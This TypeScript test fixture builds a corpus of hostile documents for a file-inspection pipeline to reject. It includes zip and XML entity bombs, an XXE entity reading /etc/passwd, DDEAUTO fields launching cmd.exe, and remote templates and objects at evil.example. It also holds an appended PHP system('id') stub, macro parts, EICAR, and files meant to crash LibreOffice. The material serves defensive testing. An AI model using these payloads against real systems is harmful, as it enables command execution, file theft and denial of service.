// FILE-1's corpus of text documents: none of these may become available. Each is something else, carries something, or is made to last.
import { DOCX_TYPE, makeDocx, makeOdt, makeRtf, writeEssay } from '#test/builders/document.ts';
import { EICAR, pngOf, type SampleFile } from '#test/files/hostile-files.ts';
import { zipOf } from '#test/files/zip.ts';

const latin = (text: string) => Buffer.from(text, 'latin1');
const words = writeEssay(1);
const EVIL = 'https://evil.example/x';
const COMPOUND = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const EXECUTABLE = latin(
  `MZ\x90\x00${'\x00'.repeat(60)}This program cannot be run in DOS mode.\r\n$${'\x00'.repeat(500)}`,
);
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 12 }, (_, index) => {
  const name = String.fromCodePoint(98 + index);
  const before = String.fromCodePoint(97 + index);
  return `<!ENTITY ${name} "${`&${before};`.repeat(10)}">`;
}).join('')}]>`;
const laughing = `<?xml version="1.0"?>${LAUGHS}<w:document ${W}><w:body><w:p><w:r><w:t>&m;</w:t></w:r></w:p></w:body></w:document>`;
const field = (...pieces: string[]) =>
  pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('');
const ofType = (type: string, name: string, content: string | Buffer = COMPOUND) =>
  makeDocx(words, { relations: [[type, name.replace('word/', '')]], parts: { [name]: content } });
const elsewhere = (type: string, target: string) => makeDocx(words, { relations: [[type, target, true]] });

function packages(): Record<string, Buffer> {
  const good = makeDocx(words);
  return {
    'bomb of a picture.docx': makeDocx(words, { parts: { 'word/media/image1.bmp': Buffer.alloc(90 * 1024 * 1024) } }),
    'bomb of words.docx': makeDocx([' '.repeat(90 * 1024 * 1024)]),
    'bomb.odt': makeOdt(words, { parts: { 'Pictures/1.bmp': Buffer.alloc(90 * 1024 * 1024) } }),
    'many entries.docx': makeDocx(words, {
      parts: Object.fromEntries(Array.from({ length: 1_200 }, (_, index) => [`word/media/${index}.xml`, '<a/>'])),
    }),
    'picture of gigapixels.docx': makeDocx(words, {
      relations: [['image', 'media/image1.png']],
      parts: { 'word/media/image1.png': pngOf(30_000, 30_000, 1, Buffer.alloc(100)) },
    }),
    'zip within.docx': makeDocx(words, { parts: { 'word/inner.zip': zipOf({ a: zipOf({ b: 'c' }) }) } }),
    'document within.docx': ofType('package', 'word/embeddings/inner.docx', good),
    'zip of programs.docx': zipOf({ 'setup.exe': EXECUTABLE, 'run.bat': 'del *.*' }),
    'programs beside a document.docx': makeDocx(words, { parts: { 'word/setup.exe': EXECUTABLE } }),
    'program under another name.docx': makeDocx(words, { parts: { 'word/media/image1.png': EXECUTABLE } }),
    'object.docx': ofType('oleObject', 'word/embeddings/oleObject1.bin'),
    'control.docx': ofType('control', 'word/activeX/activeX1.xml', '<ax:ocx/>'),
    'macros.docx': makeDocx(words, {
      mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
      parts: { 'word/vbaProject.bin': COMPOUND },
    }),
    'macros in an honest type.docx': ofType('vbaProject', 'word/vbaProject.bin', 'Auto_Open'),
    'remote template.docx': makeDocx(words, {
      parts: {
        'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="${EVIL}.dotm" TargetMode="External"/></Relationships>`,
      },
    }),
    'template on a share.docx': elsewhere('attachedTemplate', 'file:///\\\\evil.example\\share\\a.dotm'),
    'remote object.docx': elsewhere('oleObject', EVIL),
    'remote part.docx': elsewhere('subDocument', EVIL),
    'remote frame.docx': elsewhere('frame', EVIL),
    'remote chunk.docx': elsewhere('aFChunk', EVIL),
    'dde.docx': makeDocx([], { body: `<w:p>${field('DDEAUTO c:\\windows\\system32\\cmd.exe')}</w:p>` }),
    'dde in a part of another name.docx': makeDocx([], {
      parts: {
        '[Content_Types].xml': `<Types><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.dat" ContentType="${DOCX_TYPE}"/></Types>`,
        '_rels/.rels':
          '<Relationships><Relationship Id="a" Type="x/officeDocument" Target="word/document.dat"/></Relationships>',
        'word/document.dat': `<w:document ${W}><w:body><w:p>${field('DDEAUTO cmd.exe')}</w:p></w:body></w:document>`,
      },
    }),
    'dde under another prefix.docx': makeDocx([], {
      main: `<v:document ${W.replace(':w=', ':v=')}><v:body><v:p><v:r><v:instrText>DDEAUTO cmd</v:instrText></v:r></v:p></v:body></v:document>`,
    }),
    'dde in pieces.docx': makeDocx([], { body: `<w:p>${field(' DD', 'EAU', 'TO cmd ')}</w:p>` }),
    'entities.docx': makeDocx([], { main: laughing }),
    'wide entities.docx': makeDocx([], { main: Buffer.from(`\ufeff${laughing}`, 'utf16le') }),
    'entities.odt': makeOdt(words, { parts: { 'content.xml': laughing } }),
    'file entity.odt': makeOdt(words, {
      parts: { 'styles.xml': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
    }),
    'macros.odt': makeOdt(words, { parts: { 'Basic/Standard/Module1.xml': '<script:module/>' } }),
    'script.odt': makeOdt(words, { parts: { 'Scripts/python/run.py': 'import os' } }),
    'listener.odt': makeOdt([], {
      body: '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/><text:p>a</text:p>',
    }),
    'object.odt': makeOdt(words, { parts: { 'Object 1': COMPOUND } }),
    'section from elsewhere.odt': makeOdt([], {
      body: '<text:section text:name="a"><text:section-source xlink:href="file:///etc/passwd"/><text:p>a</text:p></text:section>',
    }),
    'section under another prefix.odt': makeOdt([], {
      body: '<t:section xmlns:t="urn:oasis:names:tc:opendocument:xmlns:text:1.0" t:name="a"><t:section-source xlink:href="file:///etc/passwd"/></t:section>',
    }),
    'in another encoding.odt': makeOdt(words, {
      parts: { 'content.xml': '<?xml version="1.0" encoding="UTF-7"?>+ADw-office:document-content/+AD4-' },
    }),
    'macros of an object.odt': makeOdt(words, { parts: { 'Object 1/Basic/Standard/Module1.xml': '<a/>' } }),
    'locked.odt': makeOdt(words, {
      parts: { 'META-INF/manifest.xml': '<manifest:encryption-data manifest:checksum-type="SHA1/1K"/>' },
    }),
    'no words.docx': zipOf({ '[Content_Types].xml': DOCX_TYPE, 'a.xml': '<a/>' }),
    'broken words.docx': makeDocx([], { main: '<w:document><w:body><w:p>' }),
    'cut off.docx': good.subarray(0, Math.floor(good.length * 0.7)),
    'php behind.docx': Buffer.concat([good, latin('<?php system("id"); ?>')]),
    'program before.docx': Buffer.concat([EXECUTABLE, good]),
    'virus.docx': makeDocx(words, { parts: { 'word/media/a.txt': EICAR } }),
    'spreadsheet.docx': makeDocx(words, { mainType: 'application/vnd.ms-excel.sheet.main+xml' }),
    'a name twice.docx': zipOf([
      ['[Content_Types].xml', `<Types><Override ContentType="${DOCX_TYPE}"/></Types>`],
      ['word/document.xml', `<w:p>${field('DDEAUTO cmd.exe')}</w:p>`],
      ['word/document.xml', '<w:p/>'],
    ]),
    'template.odt': zipOf({ mimetype: 'application/vnd.oasis.opendocument.text-template', 'content.xml': '<a/>' }),
  };
}

function texts(): Record<string, Buffer> {
  return {
    'object.rtf': makeRtf(words, '{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}'),
    'control.rtf': makeRtf(words, '{\\*\\objocx 01}'),
    'font.rtf': makeRtf(words, '{\\*\\fontemb\\ftruetype 00}'),
    'dde.rtf': makeRtf(words, '{\\field{\\*\\fldinst DDEAUTO cmd.exe "/c calc"}{\\fldrslt a}}'),
    'remote template.rtf': makeRtf(words, `{\\*\\template ${EVIL}.dotm}`),
    'template on a share.rtf': makeRtf(words, String.raw`{\*\template \\\\evil.example\\a.dotm}`),
    'cut off.rtf': latin(`{\\rtf1 ${'words '.repeat(2_000)}`),
    'program behind.rtf': Buffer.concat([makeRtf(words), EXECUTABLE]),
    'virus.rtf': makeRtf(words, EICAR),
    'virus.txt': latin(EICAR),
    'program.txt': EXECUTABLE,
    'zeros.txt': Buffer.alloc(5_000),
    'nothing.txt': Buffer.from([0]),
    'too long.txt': Buffer.alloc(10 * 1024 * 1024 - 10, 'All work and no play makes a dull essay. '),
    'old word.docx': Buffer.concat([COMPOUND, Buffer.from('WordDocument', 'utf16le')]),
    'locked.docx': Buffer.concat([COMPOUND, Buffer.from('EncryptedPackage', 'utf16le')]),
    'page.docx': latin('<!doctype html><script>alert(1)</script>'),
    'program.odt': EXECUTABLE,
    'words.rtf': latin('just words'),
  };
}

export function makeHostileDocuments(): SampleFile[] {
  return Object.entries({ ...packages(), ...texts() }).map(([name, bytes]) => ({ name, bytes }));
}

/** Taken by the inspection, and made to keep LibreOffice busy or to make it fall; the slowest last. */
export function makeHeavyDocuments(): SampleFile[] {
  const cell = '<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>';
  const row = `<w:tr>${cell.repeat(60)}</w:tr>`;
  const nested = `${'<w:tbl><w:tr><w:tc>'.repeat(4_000)}<w:p/>${'</w:tc></w:tr></w:tbl>'.repeat(4_000)}`;
  const heavy: Record<string, Buffer> = {
    'nested tables.docx': makeDocx([], { body: `${nested}<w:p/>` }),
    'open groups.rtf': latin(`{\\rtf1${'{'.repeat(3_000_000)}${'}'.repeat(3_000_000)}}`),
    'thirty-one pages.docx': makeDocx(writeEssay(120)),
    'a million paragraphs.docx': makeDocx([], { body: '<w:p/>'.repeat(1_000_000) }),
    'huge table.docx': makeDocx([], { body: `<w:tbl>${row.repeat(6_000)}</w:tbl><w:p/>` }),
  };
  return Object.entries(heavy).map(([name, bytes]) => ({ name, bytes }));
}
